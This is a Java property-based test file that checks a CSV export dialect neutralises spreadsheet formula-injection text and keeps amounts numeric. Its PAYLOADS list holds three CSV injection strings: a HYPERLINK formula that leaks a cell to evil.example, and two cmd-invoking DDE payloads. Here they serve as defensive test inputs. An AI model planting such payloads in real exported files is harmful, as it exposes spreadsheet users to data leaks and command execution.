package id.smartkampung.core.csv;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import id.smartkampung.core.money.Idr;
import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;

/**
 * Formula injection (issue 19 item 5; OWASP "CSV Injection"): no text cell written by a {@link
 * CsvDialect} begins with {@code =}, {@code +}, {@code -}, {@code @}, tab or CR, whatever the text —
 * generated text, and the three payloads of the issue — and {@link CsvDialect#restore} gives the text
 * back exactly. Numbers stay numbers.
 */
class CsvDialectProperties {
  static final List<String> PAYLOADS =
      List.of("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Klik\")", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0");

  @Provide
  Arbitrary<String> texts() {
    Arbitrary<String> risky = Arbitraries.strings().withChars("=+-@\t\r'\"\n,; aZ0(").ofMaxLength(12);
    Arbitrary<String> any = Arbitraries.strings().all().ofMaxLength(20);
    Arbitrary<String> payloads = Arbitraries.of(PAYLOADS);
    Arbitrary<String> prefixed = Arbitraries.of(PAYLOADS).flatMap(p -> Arbitraries.strings().withChars("'\t\r =").ofMaxLength(3).map(pre -> pre + p));
    return Arbitraries.oneOf(risky, any, payloads, prefixed);
  }

  @Property(tries = 2000)
  void aNeutralisedTextNeverStartsAFormulaAndIsRestoredExactly(@ForAll("texts") String text) {
    String cell = CsvDialect.neutralise(text);
    assertFalse(!cell.isEmpty() && CsvDialect.isFormulaStart(cell.charAt(0)), () -> "starts a formula: " + cell);
    assertEquals(text, CsvDialect.restore(cell));
    if (text.isEmpty() || !(CsvDialect.isFormulaStart(text.charAt(0)) || text.charAt(0) == '\'')) {
      assertEquals(text, cell, "ordinary text is left as it is");
    }
  }

  @Property(tries = 1000)
  void aWrittenTextCellReadsBackAsTheNeutralisedText(@ForAll("texts") String text, @ForAll CsvDialect dialect) throws Exception {
    String file = dialect.row(List.of(dialect.text(text), dialect.text("x"))) + dialect.row(List.of("a", "b"));
    List<List<String>> rows = read(file, dialect);
    assertEquals(CsvDialect.neutralise(text), rows.get(0).get(0));
    assertEquals("x", rows.get(0).get(1), "the separator inside the text did not split the cell");
    String first = rows.get(0).get(0);
    assertTrue(first.isEmpty() || !CsvDialect.isFormulaStart(first.charAt(0)), first);
  }

  @Property(tries = 500)
  void numbersStayNumbersInTheirDialect(@ForAll CsvDialect dialect, @ForAll long sen) {
    BigDecimal amount = BigDecimal.valueOf(sen, 2);
    String cell = dialect.amount(Idr.of(amount));
    assertEquals(0, amount.compareTo(new BigDecimal(dialect.plainDecimal(cell).orElseThrow())), cell);
    assertEquals(sen < 0, cell.startsWith("-"), "a negative amount is written as a negative number: " + cell);
  }

  @Example
  void aNegativeAmountIsANumberNotNeutralisedText() {
    assertEquals("-2500.00", CsvDialect.PLAIN.amount(Idr.of(new BigDecimal("-2500"))));
    assertEquals("-2500,00", CsvDialect.SPREADSHEET_ID.amount(Idr.of(new BigDecimal("-2500"))));
    assertEquals("'-2500.00", CsvDialect.neutralise("-2500.00"), "as text it would be neutralised: numbers are written by amount/number");
  }

  @Example
  void theIssuesPayloadsAreNeutralised() {
    for (String p : PAYLOADS) {
      assertEquals("'" + p, CsvDialect.neutralise(p));
    }
    assertEquals("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Klik\"\")\"", CsvDialect.PLAIN.text(PAYLOADS.get(0)));
  }

  @Example
  void spreadsheetNumbersAreReadWithADecimalCommaOptionallyGrouped() {
    assertEquals("52200000.00", CsvDialect.SPREADSHEET_ID.plainDecimal("52200000,00").orElseThrow());
    assertEquals("52200000.50", CsvDialect.SPREADSHEET_ID.plainDecimal("52.200.000,50").orElseThrow());
    assertEquals("1000", CsvDialect.SPREADSHEET_ID.plainDecimal("1.000").orElseThrow());
    assertTrue(CsvDialect.SPREADSHEET_ID.plainDecimal("52200000.00").isEmpty(), "a decimal point without grouping is ambiguous");
    assertTrue(CsvDialect.PLAIN.plainDecimal("52200000,00").isEmpty());
    assertEquals(CsvDialect.SPREADSHEET_ID, CsvDialect.ofHeader("\uFEFFsection;account_code;amount"));
    assertEquals(CsvDialect.PLAIN, CsvDialect.ofHeader("section,account_code,amount"));
  }

  private static List<List<String>> read(String file, CsvDialect dialect) throws Exception {
    CsvMapper m = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY);
    List<List<String>> rows = new ArrayList<>();
    try (MappingIterator<List<String>> it =
        m.readerForListOf(String.class).with(CsvSchema.emptySchema().withColumnSeparator(dialect.separator())).readValues(file)) {
      while (it.hasNext()) {
        rows.add(it.next());
      }
    }
    return rows;
  }
}
